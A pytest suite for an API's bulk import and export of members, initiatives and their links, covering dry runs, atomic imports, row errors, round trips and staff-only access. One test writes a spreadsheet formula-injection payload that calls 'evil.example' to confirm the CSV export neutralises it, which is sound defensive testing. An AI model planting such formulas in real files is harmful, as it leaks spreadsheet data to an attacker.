"""Bulk import and export of members, initiatives and the links between
initiatives and members or partners: natural keys, round trips, dry runs,
bad rows reported with their field and code, the mutations and who may run
them, the CLI commands and the HTTP exports. (Partners: test_imports.py.)"""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from sqlalchemy import func, select

import cli
from db.engine import Database
from db.models import (
    AuditEntry,
    Initiative,
    Member,
    MemberInitiative,
    Partner,
    PartnerInitiative,
    PartnerRole,
    Role,
)
from resolvers.access.keys import issue_key
from tests.conftest import post_with_key

REPORT = """
  report {
    dryRun atomic applied created updated unchanged rejected
    rows { position key outcome errors { field message code } }
  }
  userErrors { field message code }
"""
IMPORTS = {
    kind: f"""
mutation Import($input: {kind.capitalize()}ImportInput!) {{
  {kind}Import(input: $input) {{ {REPORT} }}
}}
"""
    for kind in ("members", "initiatives", "links")
}

LONG_NAME = "x" * 10_000
# A new member, an existing one whose population changes, the new one again
# (names and countries compare case-insensitively), an unknown country, a
# name far too long, an unknown region, and a row without its country.
MEMBERS_CSV = f"""\
name,country,region,kind,population,evidence
Nova Cidade,BR,Americas & Caribbean,CITY,1000,Listed in a test file
Madrid,ES,,,5,
NOVA CIDADE,br,americas-caribbean,CITY,,
Atlantis,XX,Europe,CITY,,
{LONG_NAME},DE,Europe,CITY,,
Nowhere Town,FR,Atlantis,CITY,,
No Country,,Europe,CITY,,
"""
EXPECTED_MEMBERS = [
    ("Nova Cidade (BR)", "CREATED", []),
    ("Madrid (ES)", "UPDATED", []),
    ("NOVA CIDADE (br)", "REJECTED", [(["name"], "DUPLICATE")]),
    ("Atlantis (XX)", "REJECTED", [(["country"], "INVALID_COUNTRY")]),
    (LONG_NAME[:200] + "… (DE)", "REJECTED", [(["name"], "TOO_LONG")]),
    ("Nowhere Town (FR)", "REJECTED", [(["region"], "NOT_FOUND")]),
    ("No Country", "REJECTED", [(["country"], "REQUIRED")]),
]
INITIATIVES_JSON = orjson.dumps(
    [
        {"title": "Green Roofs Exchange", "period": "2026-2027", "kind": "PILOT_PROJECT"},
        {"title": "green roofs exchange", "period": "2026–2027", "kind": "PILOT_PROJECT"},
        {"title": "Green Roofs Exchange", "period": "2030", "kind": "PILOT_PROJECT"},
        {"title": "Metropolis Energy GovernAnce (MEGA)", "summary": "Energy governance."},
        {"title": LONG_NAME, "kind": "INITIATIVE"},
        {"title": "Backwards", "kind": "INITIATIVE", "startYear": 2020, "endYear": 2019},
    ]
).decode()
EXPECTED_INITIATIVES = [
    ("Green Roofs Exchange (2026-2027)", "CREATED", []),
    ("green roofs exchange (2026–2027)", "REJECTED", [(["title"], "DUPLICATE")]),
    ("Green Roofs Exchange (2030)", "CREATED", []),
    ("Metropolis Energy GovernAnce (MEGA)", "UPDATED", []),
    (LONG_NAME[:200] + "…", "REJECTED", [(["title"], "TOO_LONG")]),
    ("Backwards", "REJECTED", [(["endYear"], "OUT_OF_RANGE")]),
]
# A new member link and a new partner link (the initiative by title alone,
# or with its period), a role changed, the same pair twice, and links to
# records that do not exist.
LINKS_CSV = """\
initiative,initiativePeriod,member,memberCountry,partner,role,sources
Metropolis Energy GovernAnce (MEGA),,Madrid,ES,,PARTICIPANT,https://example.org/mega
Metropolis Energy GovernAnce (MEGA),2017-2019,,,Cisco,funder,
{existing_initiative},,,,{existing_partner},SUPPORTER,
Metropolis Energy GovernAnce (MEGA),,MADRID,es,,LEAD,
Metropolis Energy GovernAnce (MEGA),,Atlantis,ES,,LEAD,
No Such Initiative,,,,Cisco,FUNDER,
Metropolis Energy GovernAnce (MEGA),,,,Cisco,BOSS,
"""


@pytest.fixture
async def keys(client: httpx.AsyncClient, database_url: str) -> dict[str, str | None]:
    database = Database(database_url)
    async with database.engine.connect() as connection:
        cisco = await connection.scalar(select(Partner.id).where(Partner.name == "Cisco"))
    staff = await issue_key(database, name="Ana (staff)", role=Role.STAFF)
    partner = await issue_key(database, name="Cisco app", role=Role.PARTNER, partner_id=cisco)
    await database.dispose()
    return {"anonymous": None, "partner": partner.key, "staff": staff.key}


@pytest.fixture
def hub_env(monkeypatch: pytest.MonkeyPatch, database_url: str) -> None:
    """The CLI's database: the test's own."""
    monkeypatch.setenv("HUB_DATABASE_URL", database_url)


async def _import(
    client: httpx.AsyncClient,
    key: str | None,
    kind: str,
    content: str,
    file_format: str = "CSV",
    **mode: Any,
) -> dict[str, Any]:
    variables = {"input": {"format": file_format, "content": content, **mode}}
    body = await post_with_key(client, IMPORTS[kind], key, variables)
    assert "errors" not in body, body["errors"]
    payload: dict[str, Any] = body["data"][f"{kind}Import"]
    return payload


def _rows(report: dict[str, Any]) -> list[tuple[str | None, str, list[tuple[list[str], str]]]]:
    return [
        (row["key"], row["outcome"], [(e["field"], e["code"]) for e in row["errors"]])
        for row in report["rows"]
    ]


async def _metrohub(*args: str) -> int:
    # The CLI runs its own event loop: give it a thread.
    return await asyncio.to_thread(cli.main, list(args))


async def _counts(database_url: str) -> dict[str, int]:
    """How many rows each table the imports write holds."""
    database = Database(database_url)
    models = {
        "members": Member,
        "initiatives": Initiative,
        "memberLinks": MemberInitiative,
        "partnerLinks": PartnerInitiative,
        "history": AuditEntry,
    }
    async with database.engine.connect() as connection:
        counts = {
            name: await connection.scalar(select(func.count()).select_from(model)) or 0
            for name, model in models.items()
        }
    await database.dispose()
    return counts


async def _one(database_url: str, query: Any) -> Any:
    database = Database(database_url)
    async with database.engine.connect() as connection:
        row = (await connection.execute(query)).one()
    await database.dispose()
    return row


async def _links_csv(database_url: str) -> str:
    """LINKS_CSV with a partner link the reference data has."""
    row = await _one(
        database_url,
        select(Initiative.title, Partner.name)
        .join(PartnerInitiative, PartnerInitiative.initiative_id == Initiative.id)
        .join(Partner, Partner.id == PartnerInitiative.partner_id)
        .where(PartnerInitiative.role != PartnerRole.SUPPORTER)
        .order_by(Initiative.id, Partner.id)
        .limit(1),
    )
    return LINKS_CSV.format(existing_initiative=f'"{row.title}"', existing_partner=f'"{row.name}"')


async def test_a_members_import_reports_every_row_and_applies_the_valid_ones(
    client: httpx.AsyncClient, keys: dict[str, str | None], database_url: str
) -> None:
    # Given a members file with good rows and bad ones
    before = await _counts(database_url)

    # When staff import it
    payload = await _import(client, keys["staff"], "members", MEMBERS_CSV)

    # Then every row is reported, each bad one with its field and code
    assert payload["userErrors"] == []
    report = payload["report"]
    assert _rows(report) == EXPECTED_MEMBERS
    assert "already on line 2" in report["rows"][2]["errors"][0]["message"]
    assert (report["created"], report["updated"], report["rejected"]) == (1, 1, 5)

    # And the good rows are in (the new member with its region and derived
    # country name), the bad ones are not
    after = await _counts(database_url)
    assert after["members"] == before["members"] + 1
    assert after["history"] == before["history"] + 2
    nova = await _one(
        database_url,
        select(Member.country_code, Member.country_name, Member.region_id, Member.version).where(
            Member.name == "Nova Cidade"
        ),
    )
    assert (nova.country_code, nova.country_name, nova.version) == ("BR", "Brazil", 1)
    barcelona = await _one(
        database_url,
        select(Member.population, Member.version).where(Member.name.startswith("Madrid")),
    )
    assert (barcelona.population, barcelona.version) == (5, 2)


async def test_an_initiatives_import_matches_by_title_and_period(
    client: httpx.AsyncClient, keys: dict[str, str | None], database_url: str
) -> None:
    # Given an initiatives file as JSON
    before = await _counts(database_url)

    # When staff import it
    report = (await _import(client, keys["staff"], "initiatives", INITIATIVES_JSON, "JSON"))[
        "report"
    ]

    # Then a title with another period is another initiative, a title alone
    # finds its initiative, and the bad rows are rejected with field and code
    assert _rows(report) == EXPECTED_INITIATIVES
    assert [row["position"] for row in report["rows"]] == list(range(6))
    after = await _counts(database_url)
    assert after["initiatives"] == before["initiatives"] + 2
    mega = await _one(
        database_url,
        select(Initiative.summary, Initiative.period).where(
            Initiative.title.startswith("Metropolis Energy")
        ),
    )
    assert (mega.summary, mega.period) == ("Energy governance.", "2017-2019")


async def test_a_links_import_links_existing_records_and_reports_missing_ones(
    client: httpx.AsyncClient, keys: dict[str, str | None], database_url: str
) -> None:
    # Given a links file naming existing members, partners and initiatives,
    # and records that do not exist
    content = await _links_csv(database_url)
    before = await _counts(database_url)

    # When staff import it
    report = (await _import(client, keys["staff"], "links", content))["report"]

    # Then new pairs are linked, a linked pair changes its role, and each
    # bad row is rejected with its field and code
    outcomes = _rows(report)
    assert [(outcome, errors) for _, outcome, errors in outcomes] == [
        ("CREATED", []),
        ("CREATED", []),
        ("UPDATED", []),
        ("REJECTED", [(["initiative"], "DUPLICATE")]),
        ("REJECTED", [(["member"], "NOT_FOUND")]),
        ("REJECTED", [(["initiative"], "NOT_FOUND")]),
        ("REJECTED", [(["role"], "INVALID")]),
    ]
    assert outcomes[0][0] == "Madrid (ES) → Metropolis Energy GovernAnce (MEGA)"
    after = await _counts(database_url)
    assert after["memberLinks"] == before["memberLinks"] + 1
    assert after["partnerLinks"] == before["partnerLinks"] + 1
    link = await _one(
        database_url,
        select(MemberInitiative.role, MemberInitiative.source_urls)
        .join(Member, Member.id == MemberInitiative.member_id)
        .join(Initiative, Initiative.id == MemberInitiative.initiative_id)
        .where(Member.name == "Madrid", Initiative.title.startswith("Metropolis Energy")),
    )
    assert (link.role, link.source_urls) == ("participant", ["https://example.org/mega"])

    # And each change is in the initiative's history, as a link by the key that made it
    database = Database(database_url)
    async with database.engine.connect() as connection:
        entries = (
            await connection.execute(
                select(AuditEntry.action, AuditEntry.record_type, AuditEntry.actor).where(
                    AuditEntry.id > before["history"]
                )
            )
        ).all()
    await database.dispose()
    assert sorted(set(entries)) == [("link", "Initiative", "Ana (staff)")]
    assert len(entries) == 3


@pytest.mark.parametrize(
    ("kind", "content", "file_format"),
    [
        ("members", MEMBERS_CSV, "CSV"),
        ("initiatives", INITIATIVES_JSON, "JSON"),
        ("links", None, "CSV"),
    ],
)
async def test_a_dry_run_changes_nothing(
    client: httpx.AsyncClient,
    keys: dict[str, str | None],
    database_url: str,
    kind: str,
    content: str | None,
    file_format: str,
) -> None:
    # Given a file with rows to create and update
    content = content or await _links_csv(database_url)
    before = await _counts(database_url)

    # When staff import it as a dry run
    report = (await _import(client, keys["staff"], kind, content, file_format, dryRun=True))[
        "report"
    ]

    # Then the report says what would happen, and nothing happened
    assert report["created"] >= 1
    assert (report["dryRun"], report["applied"]) == (True, False)
    assert await _counts(database_url) == before


async def test_an_atomic_import_with_a_bad_row_applies_nothing(
    hub_env: None, database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given a members file with a good row and a bad one
    path = tmp_path / "members.csv"
    path.write_text("\n".join(MEMBERS_CSV.splitlines()[:2] + MEMBERS_CSV.splitlines()[4:5]))
    before = await _counts(database_url)

    # When staff import it with --atomic
    status = await _metrohub("import", "members", str(path), "--atomic")

    # Then the CLI reports both rows, exits 1, and nothing applied
    output = capsys.readouterr().out.splitlines()
    assert status == 1
    assert output[0] == "line 2: created Nova Cidade (BR)"
    assert output[1] == "line 3: rejected Atlantis (XX)"
    assert output[2].startswith("  country [INVALID_COUNTRY] ")
    assert output[-1] == (
        "1 created, 0 updated, 0 unchanged, 1 rejected: "
        "atomic import with rejected rows, nothing was changed."
    )
    assert await _counts(database_url) == before


@pytest.mark.parametrize("kind", ["members", "initiatives", "links"])
@pytest.mark.parametrize("extension", ["csv", "json"])
async def test_an_export_imports_back_all_unchanged(
    client: httpx.AsyncClient,
    keys: dict[str, str | None],
    hub_env: None,
    database_url: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    kind: str,
    extension: str,
) -> None:
    # Given records of staff's besides the reference data's
    await _import(client, keys["staff"], "members", MEMBERS_CSV)
    await _import(client, keys["staff"], "initiatives", INITIATIVES_JSON, "JSON")
    await _import(client, keys["staff"], "links", await _links_csv(database_url))
    path = tmp_path / f"{kind}.{extension}"
    before = await _counts(database_url)

    # When every record is exported and the file imported again
    assert await _metrohub("export", kind, "--output", str(path)) == 0
    capsys.readouterr()
    status = await _metrohub("import", kind, str(path))

    # Then every row is unchanged, and nothing changed
    output = capsys.readouterr().out.splitlines()
    rows = (
        len(orjson.loads(path.read_bytes()))
        if extension == "json"
        else len(list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))))
    )
    expected = {
        "members": before["members"],
        "initiatives": before["initiatives"],
        "links": before["memberLinks"] + before["partnerLinks"],
    }
    assert rows == expected[kind]
    assert status == 0
    assert output[-1] == f"0 created, 0 updated, {rows} unchanged, 0 rejected: applied."
    assert await _counts(database_url) == before


async def test_a_member_value_that_begins_as_a_formula_is_exported_as_text(
    client: httpx.AsyncClient,
    keys: dict[str, str | None],
    hub_env: None,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # Given a member whose name and evidence begin as formulas would
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    rows: list[dict[str, Any]] = [
        {
            "name": formula,
            "country": "DE",
            "region": "Europe",
            "kind": "CITY",
            "evidence": "+1 in a list",
            "longitude": -58.38,
        }
    ]
    created = await _import(client, keys["staff"], "members", orjson.dumps(rows).decode(), "JSON")
    assert created["report"]["created"] == 1
    path = tmp_path / "members.csv"

    # When the members are exported as CSV
    assert await _metrohub("export", "members", "--output", str(path)) == 0
    capsys.readouterr()

    # Then those cells begin with a quote (a negative number stays a number),
    exported = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    [row] = [row for row in exported if "evil.example" in row["name"]]
    assert row["name"] == "'" + formula
    assert (row["evidence"], row["longitude"]) == ("'+1 in a list", "-58.38")
    # and the file imports back unchanged
    assert await _metrohub("import", "members", str(path)) == 0
    assert capsys.readouterr().out.splitlines()[-1].startswith("0 created, 0 updated, ")


async def test_an_export_takes_the_apis_filter(
    hub_env: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given the reference members
    path = tmp_path / "members.json"

    # When staff export the members of one country
    status = await _metrohub(
        "export", "members", "--where", '{"country": {"eq": "ES"}}', "--output", str(path)
    )

    # Then the file has them alone; a links file takes no filter
    assert status == 0
    members = orjson.loads(path.read_bytes())
    assert members
    assert {member["country"] for member in members} == {"ES"}
    assert await _metrohub("export", "links", "--where", "{}") == 2
    assert "takes no filter" in capsys.readouterr().err


@pytest.mark.parametrize("kind", ["members", "initiatives", "links"])
@pytest.mark.parametrize("who", ["anonymous", "partner"])
async def test_only_staff_may_import_records(
    client: httpx.AsyncClient,
    keys: dict[str, str | None],
    database_url: str,
    kind: str,
    who: str,
) -> None:
    # Given a valid file
    content = {
        "members": MEMBERS_CSV,
        "initiatives": INITIATIVES_JSON,
        "links": await _links_csv(database_url),
    }[kind]
    file_format = "JSON" if kind == "initiatives" else "CSV"
    before = await _counts(database_url)

    # When anyone but staff imports it
    variables = {"input": {"format": file_format, "content": content}}
    body = await post_with_key(client, IMPORTS[kind], keys[who], variables)

    # Then it is refused with FORBIDDEN, and nothing changed
    assert body["data"] is None
    assert [e["extensions"]["code"] for e in body["errors"]] == ["FORBIDDEN"]
    assert "staff keys" in body["errors"][0]["message"]
    assert await _counts(database_url) == before


async def test_a_malformed_file_is_refused_with_a_clear_error(
    client: httpx.AsyncClient, keys: dict[str, str | None]
) -> None:
    # Given files that are not members or links files
    # When staff import them
    members = await _import(client, keys["staff"], "members", "name,region\nParis,Europe\n")
    links = await _import(client, keys["staff"], "links", '{"initiative": "x"}', "JSON")
    columns = await _import(client, keys["staff"], "links", "initiative,colour\nx,red\n")

    # Then each is refused as a whole, with a userError that says why
    for payload, says in (
        (members, "no `country` column: rows find their member by name and country"),
        (links, "a JSON import is a list of objects, one per link"),
        (columns, "unknown columns ('colour')"),
    ):
        assert payload["report"] is None
        [error] = payload["userErrors"]
        assert (error["field"], error["code"]) == (["input", "content"], "MALFORMED")
        assert says in error["message"]


@pytest.mark.parametrize(("who", "status"), [("anonymous", 401), ("partner", 403), ("staff", 200)])
async def test_who_may_download_member_files(
    client: httpx.AsyncClient, keys: dict[str, str | None], who: str, status: int
) -> None:
    headers = {"authorization": f"Bearer {keys[who]}"} if keys[who] else {}

    # When someone downloads the members as CSV
    response = await client.get("/export/members.csv", headers=headers)

    # Then only staff get it; others are told why
    assert response.status_code == status
    if status == 200:
        assert response.headers["content-disposition"] == 'attachment; filename="members.csv"'
        assert response.text.startswith("name,shortName,country,")
    else:
        [error] = response.json()["errors"]
        assert "staff keys" in error["message"]
    assert (await client.get("/export/regions.csv", headers=headers)).status_code == 404


async def test_a_downloaded_links_file_imports_back_unchanged(
    client: httpx.AsyncClient, keys: dict[str, str | None], database_url: str
) -> None:
    # Given links of staff's besides the reference data's
    await _import(client, keys["staff"], "links", await _links_csv(database_url))
    headers = {"authorization": f"Bearer {keys['staff']}"}
    before = await _counts(database_url)

    # When staff download every link as JSON and import the file again
    response = await client.get("/export/links.json", headers=headers)
    assert response.status_code == 200
    rows = response.json()
    report = (await _import(client, keys["staff"], "links", response.text, "JSON"))["report"]

    # Then the file has a row per link, each naming one end, and all are unchanged
    assert len(rows) == before["memberLinks"] + before["partnerLinks"]
    assert all(("member" in row) != ("partner" in row) for row in rows)
    assert (report["unchanged"], report["updated"], report["created"]) == (len(rows), 0, 0)
    assert await _counts(database_url) == before

    # And a links file takes no filter: asking for one is a clear 400
    filtered = await client.get("/export/links.csv", params={"where": "{}"}, headers=headers)
    assert filtered.status_code == 400
    assert "takes no filter" in filtered.json()["errors"][0]["message"]
